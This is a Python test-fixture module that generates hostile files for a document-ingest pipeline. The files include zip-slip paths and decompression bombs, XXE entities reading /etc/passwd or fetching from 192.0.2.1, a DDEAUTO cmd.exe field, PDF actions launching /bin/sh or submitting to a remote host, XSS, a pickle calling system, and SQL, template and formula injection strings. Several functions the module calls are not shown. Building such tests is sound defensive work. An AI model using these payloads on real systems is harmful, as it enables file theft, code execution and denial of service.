"""Files that were made to do harm, or that harm came to: made by code, each with what an ingest must say about it."""

import gzip
import io
import json
import os
import random
import socket
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import TypeAlias

import docx
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from ingest.readers import READERS

MB = 1024 * 1024
Make: TypeAlias = Callable[[Path], None]

# What nobody may find in an index: a file outside of the folder, what an entity would have become.
OUTSIDE = "the secret outside of the folder"


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile file. `make` writes it into an empty folder.

    `refused` is found in the reason why it was refused; `read` is found in the text of a role that it gave all the same, harmlessly. With neither, only the file
    beside it matters: what a parser saves out of a damaged file is up to the parser.
    """

    name: str
    make: Make
    refused: str = ""
    read: str = ""


def cases() -> list[Case]:
    """All of them."""
    groups = (_under_every_suffix, _cut_short, _zips, _gzips, _xml_in_word, _word, _pdf, _html, _text, _json, _csv, _front_matter, _markdown, _names)
    found = [case for group in groups for case in group()]
    assert len({case.name for case in found}) == len(found)
    return found


def _file(name: str, content: bytes | str) -> Make:
    data = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content

    def make(folder: Path) -> None:
        (folder / name).write_bytes(data)

    return make


# What is not what its name says


WRONG_CONTENT: Mapping[str, tuple[bytes, str]] = {
    "nothing": (b"", "empty: 0 bytes"),
    "an ELF program": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "looks binary: it begins like a program"),
    "a PNG image": (b"\x89PNG\r\n\x1a\n" + b"\0" * 200, "looks binary: it begins like a PNG"),
    "a gzip bomb": (gzip.compress(b"\0" * 10 * MB), "looks binary: it begins like a gzip file"),
    "a database": (b"SQLite format 3\x00" + b"\0" * 200, "looks binary: it begins like an SQLite"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "looks binary: it begins like an old or encrypted Office"),
    "NULs": (b"\0" * 5_000, "looks binary: 5000 control characters"),
    "noise": (random.Random(1).randbytes(5_000), "looks binary"),  # noqa: S311 - the same noise each time
    "a pickle": (b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.", "looks binary"),
    "spaces": (b" \t\r\n" * 500, "no text|no records|no words|shows no words"),
}


def _under_every_suffix() -> Iterator[Case]:
    for suffix in READERS:
        for kind, (content, reason) in WRONG_CONTENT.items():
            if suffix == ".pdf" and content:
                reason = "not a PDF that can be read"
            if suffix == ".docx" and content:
                reason = "an old .doc file" if kind == "an old Word file" else "not a Word document"
            yield Case(f"{kind} named {suffix}", _file(f"role{suffix}", content), refused=reason)


def _cut_short() -> Iterator[Case]:
    whole = {
        "pdf": _good_pdf(),
        "docx": good_word(),
        "zip": zipped({"a.md": "# Cook\n\nYou cook."}),
        "md.gz": gzip.compress(b"# Cook\n\nYou cook." * 50, mtime=0),
    }
    reasons = {"pdf": "", "docx": "not a Word document", "zip": "not a ZIP archive", "md.gz": "damaged"}
    for suffix, data in whole.items():
        for share in (2, 10, 25, 50, 75, 90, 99):
            yield Case(f"{suffix} cut after {share} %", _file(f"cut.{suffix}", data[: max(1, len(data) * share // 100)]), refused=reasons[suffix])
        turned = bytearray(data)
        for place in random.Random(2).sample(range(len(data)), 12):  # noqa: S311
            turned[place] ^= 0xFF
        yield Case(f"{suffix} with bytes turned", _file(f"turned.{suffix}", bytes(turned)))


# Archives


def zipped(members: Mapping[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive in memory."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _marked(data: bytes, flag: int = 0, method: int | None = None, size: int | None = None) -> bytes:
    """A ZIP archive of one member whose headers say something else about it."""
    turned = bytearray(data)
    for signature, at_flag, at_method, at_size in ((b"PK\x03\x04", 6, 8, 22), (b"PK\x01\x02", 8, 10, 24)):
        start = turned.index(signature)
        turned[start + at_flag] |= flag
        if method is not None:
            turned[start + at_method : start + at_method + 2] = struct.pack("<H", method)
        if size is not None:
            turned[start + at_size : start + at_size + 4] = struct.pack("<I", size)
    return bytes(turned)


def _zips() -> Iterator[Case]:
    def case(name: str, data: bytes, refused: str = "", read: str = "") -> Case:
        return Case(f"zip: {name}", _file("roles.zip", data), refused, read)

    out = "its path leads out of the archive"
    for path in (
        "../up.md",
        "a/../../up.md",
        "/etc/up.md",
        "C:/up.md",
        "..\\up.md",
        "a\\..\\..\\up.md",
        "\\\\host\\share\\up.md",
        "./../up.md",
        "a/./../../up.md",
    ):
        yield case(f"the path {path}", zipped({path: "# Up\n\nYou lead."}), out)
    one = zipped({"a.md": "# Cook\n\nYou cook soup."})
    yield case("a bomb of one member", zipped({"a.md": b"\0" * 101 * MB}), "too large: 101 MB once unpacked")
    yield case("a bomb of many members", zipped({f"{number}.md": b"\0" * 90 * MB for number in range(6)}), "too large: 6 files, 540 MB")
    yield case("a bomb of names", zipped({f"{number}.md": "" for number in range(10_001)}, zipfile.ZIP_STORED), "too large: 10,001 files")
    yield case("an archive within an archive", zipped({"a.zip": one}), "an archive within an archive")
    nested = one
    for _ in range(6):
        nested = zipped({"a.zip": nested})
    yield case("archives six deep", nested, "an archive within an archive")
    yield case("its own size is a lie, too small", _marked(one, size=3), "damaged")
    yield case("its own size is a lie, too large", _marked(one, size=2**31), "too large: 1 files, 2048 MB")
    yield case("encrypted", _marked(one, flag=1), "encrypted: unpack the archive")
    for method in (1, 6, 9, 96, 97, 99):
        yield case(f"packed by method {method}", _marked(one, method=method), "damaged")
    link = zipfile.ZipInfo("link.md")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield case("a symbolic link", stream.getvalue(), "a symbolic link")
    yield case("a member with its checksum broken", one.replace(b"PK\x01\x02", b"PK\x01\x02")[:14] + b"\0\0\0\0" + one[18:])
    yield case("its directory lies elsewhere", one[:-6] + struct.pack("<I", 2**31) + one[-2:], "damaged|not a ZIP archive")
    yield case("it claims 65,534 members", one[:-14] + struct.pack("<HH", 65_534, 65_534) + one[-10:])
    yield case("a program in front of it", b"#!/bin/sh\nexit 1\n" + one, read="You cook soup")
    yield case("a comment as long as can be", _with_comment(one), read="You cook soup")
    yield case("a turned direction in a name", zipped({"a\u202edm.exe.md": "# Cook\n\nYou cook soup."}), read="You cook soup")
    yield case("a line break in a name", zipped({"a\nb.md": "# Cook\n\nYou cook soup."}), read="You cook soup")
    yield case("a name of 60,000 characters", zipped({"a" * 60_000 + ".md": "# Cook\n\nYou cook soup."}))
    yield case("only what is no role", zipped({"a.exe": b"MZ", "b.png": b"\x89PNG"}))
    yield case("a Word file that is a bomb", zipped({"a.docx": _bomb_word()}, zipfile.ZIP_STORED), "too large: 1.. MB once unpacked")
    yield case("a PDF in a loop", zipped({"a.pdf": _raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>")}))


def _with_comment(data: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", 65_535) + b"x" * 65_535


def _gzips() -> Iterator[Case]:
    bomb = gzip.compress(b"\0" * 10 * MB, mtime=0) * 11
    for suffix in (".md", ".pdf", ".json"):
        yield Case(f"gzip: a bomb of {suffix}", _file(f"bomb{suffix}.gz", bomb), refused="too large: more than 100 MB")
    line = gzip.compress(b"a" * 10 * MB, mtime=0) * 3
    for suffix in (".csv", ".jsonl", ".ndjson"):
        yield Case(f"gzip: an endless line of {suffix}", _file(f"line{suffix}.gz", line), refused="a line is longer than 20 MB")
    yield Case("gzip: within gzip", _file("a.md.gz.gz", gzip.compress(gzip.compress(b"x"))))
    yield Case("gzip: rubbish behind the end", _file("a.md.gz", gzip.compress(b"# Cook\n\nYou cook.") + b"rubbish"), refused="damaged")
    yield Case("gzip: a wrong checksum", _file("a.md.gz", gzip.compress(b"# Cook\n\nYou cook.")[:-8] + b"\0" * 8), refused="damaged")
    yield Case("gzip: a zip inside", _file("a.zip.gz", gzip.compress(zipped({"a.md": "x"}))))


# Word


def good_word() -> bytes:
    """A Word document with a heading and a paragraph."""
    document = docx.Document()
    document.add_heading("Night Cook", 1)
    document.add_paragraph("You cook soup for the night shift.")
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _bomb_word() -> bytes:
    return _word_with({"word/media/image1.png": b"\0" * 101 * MB})


def _word_with(parts: Mapping[str, bytes | str], without: str = "") -> bytes:
    with zipfile.ZipFile(io.BytesIO(good_word())) as good:
        members: dict[str, bytes | str] = {name: good.read(name) for name in good.namelist() if name != without}
    return zipped(members | dict(parts))


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _document(body: str, doctype: str = "") -> str:
    return f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body>{body}</w:body></w:document>'


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 13)) + "]>"
_SQUARE = f"<!DOCTYPE x [<!ENTITY a '{'ha' * 10_000}'>]>"
_DOCTYPES = {
    "a bomb of entities": (_LAUGHS, "&a12;"),
    "a square of entities": (_SQUARE, "&a;" * 5_000),
    "entities in a ring": ("<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
    "a file as an entity": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;"),
    "a neighbour as an entity": ("<!DOCTYPE x [<!ENTITY a SYSTEM '../../secret.txt'>]>", "&a;"),
    "a device as an entity": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///dev/zero'>]>", "&a;"),
    "an address as an entity": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'http://192.0.2.1/a'>]>", "&a;"),
    "a document type from elsewhere": ("<!DOCTYPE x SYSTEM 'http://192.0.2.1/a.dtd'>", ""),
    "a document type from a file": ("<!DOCTYPE x SYSTEM 'file:///etc/passwd'>", ""),
    "parameter entities": ("<!DOCTYPE x [<!ENTITY % a SYSTEM 'file:///etc/passwd'> %a;]>", ""),
    "an undefined entity": ("", "&nosuch;"),
}


def _xml_in_word() -> Iterator[Case]:
    for kind, (doctype, reference) in _DOCTYPES.items():
        body = _document(_paragraph(f"You cook {reference} soup."), doctype)
        yield Case(f"docx: {kind} in the text", _file("a.docx", _word_with({"word/document.xml": body})))
        styles = f'<?xml version="1.0"?>{doctype}<w:styles {_W}><w:style w:styleId="x">{reference}</w:style></w:styles>'
        yield Case(f"docx: {kind} in the styles", _file("a.docx", _word_with({"word/styles.xml": styles})))
        types = '<?xml version="1.0"?>' + doctype + f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{reference}</Types>'
        yield Case(f"docx: {kind} in the content types", _file("a.docx", _word_with({"[Content_Types].xml": types})))


def _word() -> Iterator[Case]:
    def case(name: str, data: bytes, refused: str = "", read: str = "") -> Case:
        return Case(f"docx: {name}", _file("a.docx", data), refused, read)

    text = _paragraph("You cook soup.")
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield case("an inclusion of a file", _word_with({"word/document.xml": _document(text + include)}), read="You cook soup")
    yield case("a picture of 101 MB", _bomb_word(), "too large: 1.. MB once unpacked")
    yield case("no document", _word_with({}, without="word/document.xml"), "not a Word document")
    yield case("no content types", _word_with({}, without="[Content_Types].xml"), "not a Word document")
    yield case("no relationships", _word_with({}, without="_rels/.rels"), "not a Word document")
    yield case("no styles", _word_with({}, without="word/styles.xml"))
    yield case("an empty document", _word_with({"word/document.xml": _document("")}), "no text")
    yield case("elements 100,000 deep", _word_with({"word/document.xml": _document("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)}), "not a Word document")
    deep = "<w:sdt><w:sdtContent>" * 120 + text + "</w:sdtContent></w:sdt>" * 120
    yield case("boxes 240 deep", _word_with({"word/document.xml": _document(deep)}))
    tables = "<w:tbl><w:tr><w:tc>" * 80 + text + "</w:tc></w:tr></w:tbl>" * 80
    yield case("tables 80 deep", _word_with({"word/document.xml": _document(tables)}))
    yield case("a table with 1,000 cells", _word_with({"word/document.xml": _document(f"<w:tbl><w:tr>{f'<w:tc>{text}</w:tc>' * 1_000}</w:tr></w:tbl>")}))
    attributes = "".join(f' w:a{number}="x"' for number in range(2_000))
    yield case("2,000 attributes", _word_with({"word/document.xml": _document(f"<w:p{attributes}/>{text}")}), read="You cook soup")
    yield case("not closed", _word_with({"word/document.xml": _document(text)[:-30]}), "not a Word document")
    yield case("in an unknown encoding", _word_with({"word/document.xml": _document(text).replace("?>", " encoding='x-nosuch'?>")}), "not a Word document")
    relations = _relations('Target="http://192.0.2.1/evil.dotm" TargetMode="External"')
    yield case("a template from elsewhere", _word_with({"word/_rels/settings.xml.rels": relations}), read="You cook soup")
    up = _relations('Target="../../../../etc/passwd"')
    yield case("a relation that leads out", _word_with({"word/_rels/document.xml.rels": up}), "not a Word document")
    yield case("macros", _word_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}), read="You cook soup")
    yield case(
        "a formula and a command field",
        _word_with({"word/document.xml": _document(text + _field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))}),
        read="You cook soup",
    )
    yield case("a role of 1,100,000 characters", _word_with({"word/document.xml": _document(_paragraph("word " * 220_000))}), "too long for a role")
    styles = "".join(f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s"/><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>' for n in range(50))
    yield case("styles in a ring", _word_with({"word/styles.xml": f"<w:styles {_W}>{styles}</w:styles>"}), read="You cook soup")
    numbers = _paragraph("You cook soup.").replace("<w:p>", f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{"9" * 5_000}"/></w:numPr></w:pPr>')
    yield case("a list at the depth of a huge number", _word_with({"word/document.xml": _document(numbers)}), read="You cook soup")


def _relations(relation: str) -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{kind}" {relation}/></Relationships>'
    )


def _field(instruction: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>'


# PDF


def _good_pdf() -> bytes:
    stream = io.BytesIO()
    canvas = Canvas(stream, invariant=True)
    canvas.drawString(72, 720, "Night Cook")
    canvas.drawString(72, 700, "You cook soup for the night shift.")
    canvas.save()
    return stream.getvalue()


def _raw_pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, of which the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + (content.encode("latin-1") if isinstance(content, str) else content) + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return bytes(out) + f"trailer<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF".encode()


def _page(content: bytes, filters: str = "", resources: str = "/Font<</F 5 0 R>>", *more: str | bytes, extra: str = "") -> bytes:
    stream = f"<</Length {len(content)}{filters}>>stream\n".encode() + content + b"\nendstream"
    return _raw_pdf(
        "<</Type/Catalog/Pages 2 0 R" + extra + ">>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<<{resources}>>/Contents 4 0 R>>",
        stream,
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


_TEXT = b"BT /F 12 Tf 72 700 Td (You cook soup for the night shift.) Tj ET "


def _pdf() -> Iterator[Case]:
    def case(name: str, data: bytes, refused: str = "", read: str = "") -> Case:
        return Case(f"pdf: {name}", _file("a.pdf", data), refused, read)

    catalogue = "<</Type/Catalog/Pages 2 0 R>>"
    yield case("pages in a ring", _raw_pdf(catalogue, "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"))
    yield case("a page that is its own parent", _raw_pdf(catalogue, "<</Type/Page/Parent 2 0 R/Kids[2 0 R]/Count 1>>"))
    yield case("a catalogue that is the pages", _raw_pdf("<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 3>>"))
    yield case("no pages", _raw_pdf(catalogue, "<</Type/Pages/Kids[]/Count 0>>"))
    yield case("it claims two billion pages", _raw_pdf(catalogue, "<</Type/Pages/Kids[]/Count 2147483647>>"))
    yield case("it claims fewer than no pages", _raw_pdf(catalogue, "<</Type/Pages/Kids[]/Count -5>>"))
    yield case(
        "501 pages", _raw_pdf(catalogue, f"<</Type/Pages/Kids[{'3 0 R ' * 501}]/Count 501>>", "<</Type/Page/Parent 2 0 R>>"), "too long: 501 pages, at most 500"
    )
    yield case("a table that leads to itself", _good_pdf().replace(b"/Root", b"/Prev 9 /Root"))
    yield case("a table at a place beyond the end", _good_pdf().rpartition(b"startxref")[0] + b"startxref\n999999999999\n%%EOF")
    yield case("arrays 100,000 deep", _raw_pdf("<</Type/Catalog/Pages 2 0 R/X " + "[" * 100_000 + "]" * 100_000 + ">>", "<</Type/Pages/Kids[]/Count 0>>"))
    yield case("dictionaries 50,000 deep", _raw_pdf("<</Type/Catalog/Pages 2 0 R/X " + "<</X " * 10_000 + ">>" * 10_000 + ">>", "<</Kids[]>>"))
    yield case("a stream that is a bomb", _page(zlib.compress(b" " * 30 * MB), "/Filter/FlateDecode"), "scanned: 1 page, no text layer")
    twice = zlib.compress(zlib.compress(zlib.compress(b" " * 30 * MB)))
    yield case("a bomb in a bomb", _page(twice, "/Filter[/FlateDecode/FlateDecode/FlateDecode]"), "scanned: 1 page")
    yield case("a thousand filters", _page(b"x", f"/Filter[{'/FlateDecode' * 1000}]"), "scanned: 1 page")
    yield case("a stream with a length that is a lie", _page(_TEXT).replace(b"/Length 59", b"/Length 99999999"))
    yield case("graphics saved without end", _page(b"q " * 100_000 + _TEXT), read="You cook soup")
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 5>>stream\n/X Do\nendstream"
    yield case("a form that draws itself", _page(_TEXT + b"/X Do", "", "/Font<</F 5 0 R>>/XObject<</X 6 0 R>>", form), read="You cook soup")
    wide = [
        f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {n + 1} 0 R>>>>/Length 30>>stream\n/X Do /X Do /X Do /X Do /X Do\nendstream"
        for n in range(6, 10)
    ]
    yield case("forms that draw each other five times, four deep", _page(_TEXT + b"/X Do", "", "/Font<</F 5 0 R>>/XObject<</X 6 0 R>>", *wide))
    yield case("a page as large as numbers go", _page(_TEXT).replace(b"[0 0 600 800]", b"[0 0 1e38 1e38]"))
    yield case("a page turned inside out", _page(_TEXT).replace(b"[0 0 600 800]", b"[9 9 -9 -9]"))
    yield case("a font of size 1e30", _page(_TEXT.replace(b"/F 12", b"/F 1e30")))
    yield case("text at places that are no numbers", _page(_TEXT.replace(b"72 700", b"1e999 -1e999")))
    yield case("an endless string", _page(b"BT /F 12 Tf (" + b"(" * 10_000))
    yield case("a script that opens with it", _page(_TEXT, extra="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), read="You cook soup")
    yield case("a program that opens with it", _page(_TEXT, extra="/OpenAction<</S/Launch/F(/bin/sh)>>"), read="You cook soup")
    yield case("a form that is sent away", _page(_TEXT, extra="/OpenAction<</S/SubmitForm/F(http://192.0.2.1/)>>"), read="You cook soup")
    yield case("a page from a file elsewhere", _page(_TEXT, "/F(/etc/passwd)/FFilter/FlateDecode"))
    yield case("a turned direction", _page(_TEXT.replace(b"cook", b"\\216\\320cook")))
    for strength in (40, 128):
        yield case(f"encrypted with {strength} bits", _encrypted_pdf(strength), "encrypted: it opens only with a password")
    yield case("encrypted by nobody knows whom", _good_pdf().replace(b"/Root", b"/Encrypt<</Filter/Nobody/V 9/R 9>>/Root"))
    yield case("a picture and no text", _page(b"10 10 100 100 re f"), "scanned: 1 page, no text layer")
    yield case("a header and nothing below", b"%PDF-1.7\n", "not a PDF")
    yield case("two files in one", _good_pdf() + good_word())


def _encrypted_pdf(strength: int) -> bytes:
    stream = io.BytesIO()
    canvas = Canvas(stream, encrypt=StandardEncryption("secret", "owner", strength=strength))
    canvas.drawString(72, 700, "You cook soup.")
    canvas.save()
    return stream.getvalue()


# HTML


def _html() -> Iterator[Case]:
    def case(name: str, text: str | bytes, refused: str = "", read: str = "") -> Case:
        return Case(f"html: {name}", _file("a.html", text), refused, read)

    body = "<h1>Night Cook</h1><p>You cook soup.</p>"
    for tag in ("div", "ul", "table", "b", "font", "form", "dl", "span"):
        yield case(f"<{tag}> 3,000 deep", f"<{tag}>" * 3_000 + body, "" if tag == "form" else "nested too deeply|not readable as HTML|no words")
    floods = {
        "tags that never end": "<a" * 10_000,
        "comments that never end": "<!--" * 10_000,
        "ends without a beginning": "</p" * 10_000,
        "character data": "<![CDATA[" * 10_000,
        "instructions": "<?x" * 10_000,
        "document types": "<!DOCTYPE html" * 4_000,
        "ampersands": "&" * 200_000,
        "entities": "&lt;" * 10_000,
        "huge character numbers": "&#99999999999;" * 4_000,
        "quotation marks": '<a href="' * 4_000,
        "equals signs": "<a =" * 4_000,
    }
    for name, flood in floods.items():
        yield case(f"a flood of {name}", body + flood)
        yield case(f"a flood of {name} in front", flood + body)
    yield case("20,000 attributes", "<p " + " ".join(f"a{n}=x" for n in range(20_000)) + ">You cook soup.", read="You cook soup")
    yield case("an attribute of 5 MB", f"{body}<p title='{'x' * 5 * MB}'>x", read="You cook soup")
    yield case("a picture of 3 MB within", f"{body}<img src='data:image/png;base64,{'A' * 3 * MB}'>", read="You cook soup")
    yield case("1,000 paragraphs", "<p>You cook.</p>" * 1_000)
    yield case("1,000 cells", "<table><tr>" + "<td>You cook" * 1_000)
    yield case("1,000 links", body + "<a href=x>soup</a>" * 1_000)
    yield case("1,000 list items not closed", "<ul>" + "<li>You cook" * 1_000)
    yield case("a script that never ends", body + "<script>" + "x" * MB, read="You cook soup")
    yield case(
        "what acts",
        body + "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=//192.0.2.1></iframe><meta http-equiv=refresh content=0>",
        read="You cook soup",
    )
    yield case("entities of its own", f"<!DOCTYPE html [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{body}<p>&a;", read="You cook soup")
    yield case("a document type from elsewhere", f"<!DOCTYPE html SYSTEM 'http://192.0.2.1/a.dtd'>{body}", read="You cook soup")
    yield case("JSON-LD 20,000 deep", f"<script type=application/ld+json>{'[' * 4_000}</script>{body}", read="You cook soup")
    yield case("JSON-LD with 100 postings", _json_ld(100))
    yield case("in UTF-7", b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-You cook soup.")
    yield case("in an encoding that is a codec of Python", f"<meta charset=rot13>{body}", read="You cook soup")
    yield case("NULs within tags", "<p\0>You cook\0 soup.</p\0>".encode("utf-16"), read="You cook")
    yield case("only what is hidden", "<div hidden>You cook soup.</div><script>x</script>")
    yield case("a role of 1,100,000 characters", "<p>" + "word " * 220_000, "too long for a role")


def _json_ld(postings: int) -> str:
    listed = [{"@type": "JobPosting", "title": f"Cook {n}", "description": "You cook soup."} for n in range(postings)]
    return f"<script type='application/ld+json'>{json.dumps(listed)}</script><p>Jobs</p>"


# Text, JSON, CSV


def _text() -> Iterator[Case]:
    def case(name: str, content: str | bytes, refused: str = "", read: str = "") -> Case:
        return Case(f"txt: {name}", _file("a.txt", content), refused, read)

    good = "Night Cook\n\nYou cook soup.\n"
    yield case("one line of 25 MB", "a" * 25 * MB, "too long for a role")
    yield case("one line of words", "word " * 300_000, "too long for a role")
    yield case("120,000 lines", "You cook.\n" * 120_000, "too long for a role")
    yield case("a NUL", good + "\0", "looks binary")
    yield case("control characters", "".join(map(chr, range(1, 32))) * 20, "looks binary")
    yield case("no words", "!?-. " * 500, "no text")
    yield case("a turned direction", good + "\u202eecruos\u202c \u2066x\u2069 \u200f", read="You cook soup")
    yield case("terminal commands", good + "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m " + "x" * 200, read="You cook soup")
    yield case("a character with 50,000 marks", good + "e" + "\u0301" * 10_000, read="You cook soup")
    yield case("50,000 marks in the wrong order", good + "e" + "\u0301\u0316" * 25_000, read="You cook soup")
    yield case("zero-width letters", good + "\u200b\u200c\u200d\u2060\ufeff" * 5_000, read="You cook soup")
    yield case("halves of surrogate pairs", good.encode() + b"\xed\xa0\x80\xed\xbf\xbf", read="You cook soup")
    yield case("UTF-8 longer than it needs to be", good.encode() + b"\xc0\xaf\xe0\x80\xaf", read="You cook soup")
    yield case(
        "three encodings",
        "Café résumé\n".encode() + "Zürich, naïve\n".encode("cp1252") + "кухня и суп\n".encode("koi8-r") + good.encode(),
        read="You cook soup",
    )
    yield case("two byte order marks", b"\xef\xbb\xbf\xff\xfe" + good.encode(), read="You cook soup")
    yield case("UTF-16 cut within a letter", good.encode("utf-16")[:-1], read="You cook")
    yield case("UTF-32 beyond all letters", b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 50)
    yield case("what a template engine would run", good + "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% import os %}", read=r"You cook soup")
    yield case("a formula", "=cmd|'/c calc'!A1\n\nYou cook soup.", read="You cook soup")
    yield case("a log line", good + "\n2026-01-01 CRITICAL all is lost\r\n" * 10, read="You cook soup")
    for name, piece in {"abbreviations": "A. ", "dashes": "- ", "years": "5 years ", "amounts": "$1,000 - ", "brackets": "(", "underlines": "x\n===\n"}.items():
        yield case(f"a flood of {name}", good + piece * (20_000 // len(piece)))


def _json() -> Iterator[Case]:
    def case(name: str, text: str | bytes, refused: str = "", read: str = "", suffix: str = ".json") -> Case:
        return Case(f"json: {name}", _file(f"a{suffix}", text), refused, read)

    yield case("arrays 100,000 deep", "[" * 100_000 + "]" * 100_000, "nested too deeply|not JSON")
    yield case("objects 100,000 deep", '{"a":' * 100_000 + "1" + "}" * 100_000, "nested too deeply|not JSON")
    yield case("a record 900 deep", '{"text": "You cook soup.", "x": ' + "[" * 900 + "]" * 900 + "}", "nested too deeply|a record|You")
    yield case("a number of 10,000 digits", '{"text": "You cook soup.", "n": ' + "9" * 10_000 + "}", "not JSON that can be read")
    yield case("a number of 4,000 digits", '{"text": "You cook soup.", "n": ' + "9" * 4_000 + "}", read="You cook soup")
    yield case("a number beyond all", '{"text": "You cook soup.", "n": 1e999, "m": -1e999}', read="You cook soup")
    yield case("a number of 100,000 decimals", '{"text": "You cook soup.", "n": 0.' + "1" * 100_000 + "}", read="You cook soup")
    yield case("NaN", '{"text": "You cook soup.", "n": NaN}', "NaN or Infinity is no JSON")
    yield case("a key twice", '{"text": "You cook.", "text": "You rest."}', "a key stands twice")
    yield case("a key of half a pair, twice", '{"\\ud800": 1, "\\ud800": 2, "text": "You cook."}', "a key stands twice")
    yield case(
        "halves of surrogate pairs", '{"id": "\\ud800", "title": "\\udfff Cook", "text": "You cook soup. \\ud83d", "\\ud800": "x"}', read="You cook soup"
    )
    yield case("100,000 keys", json.dumps({"text": "You cook soup."} | {f"k{n}": n for n in range(100_000)}), "too many fields")
    yield case("a key of 1 MB", json.dumps({"text": "You cook soup.", "k" * MB: 1}), read="You cook soup")
    yield case("an id of 1 MB", json.dumps({"id": "x" * MB, "text": "You cook soup."}), "its id has 1,048,576 characters")
    yield case("an id that is a path", json.dumps({"id": "../../etc/passwd", "text": "You cook soup."}), read="You cook soup")
    yield case("an id that is a command", json.dumps({"id": "'; DROP TABLE role; --", "text": "You cook soup."}), read="You cook soup")
    yield case("an id that is no text", '{"id": {"$gt": ""}, "text": "You cook soup."}', read="You cook soup")
    yield case("a text that is an object", '{"title": "Cook", "text": {"a": 1}}', "no text")
    yield case("keys of other languages", '{"__proto__": {"x": 1}, "__class__": "x", "constructor": "x", "text": "You cook soup."}', read="You cook soup")
    yield case("cut short", '[{"text": "You cook soup."}, {"text": "You', "not JSON")
    yield case("rubbish behind the end", '[{"text": "You cook soup."}] rubbish', "not JSON")
    yield case("one number", "42", "no records")
    yield case("one text", '"You cook soup."', "no records")
    yield case("an empty array", "[]", "no records")
    yield case("100,000 numbers", json.dumps(list(range(1_000))), "not an object but a number")
    yield case("a text of 1,100,000 characters", json.dumps({"text": "word " * 220_000}), "too long for a role")
    yield case("a posting 5,000 deep", '{"@graph":' * 5_000 + "1" + "}" * 5_000, "nested too deeply|not JSON|no records")
    yield case(
        "a posting made of postings", json.dumps({"@type": "JobPosting", "title": {"name": {"name": []}}, "description": [[[]]], "baseSalary": [[]]}), "no text"
    )
    yield case("an endless line", '{"text": "' + "a" * 21 * MB + '"}', "a line is longer than 20 MB", suffix=".jsonl")
    yield case("lines of rubbish", "rubbish\n" * 50, "not JSON", suffix=".jsonl")
    yield case("lines 50,000 deep", "[" * 10_000 + '\n{"text": "You cook"}', "nested too deeply|not JSON", suffix=".jsonl")
    yield case("a NUL in a line", '{"text": "You cook\0 soup."}', "looks binary|not JSON", suffix=".jsonl")


